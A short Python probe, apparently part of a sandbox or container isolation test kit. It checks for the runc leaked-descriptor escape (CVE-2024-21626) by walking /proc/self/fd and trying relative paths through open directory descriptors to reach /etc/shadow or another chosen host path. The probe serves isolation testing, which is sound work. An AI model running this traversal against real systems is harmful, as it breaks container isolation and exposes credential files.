"""Use a file descriptor that the server left open (CVE-2024-21626)."""

import os
import stat

from kit import denied, escaped


def attempt(event):
    seen = {}
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            mode = os.fstat(fd).st_mode
            seen[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            for path in ("../../../../../../../../etc/shadow", f"../../../../../../../..{event['data']}"):
                try:
                    os.stat(path, dir_fd=fd)
                    return escaped(f"descriptor {fd} ({seen[fd]}) leads to {path}")
                except OSError:
                    continue
        if stat.S_ISBLK(mode):
            return escaped(f"descriptor {fd} is a device: {seen[fd]}")
    strange = {
        fd: to for fd, to in seen.items() if fd > 3 and not to.startswith(("anon_inode:", "/proc/self/fd", "/proc/"))
    }
    if strange:
        return escaped(f"open beyond the channel: {strange}")
    return denied(f"only {seen}")
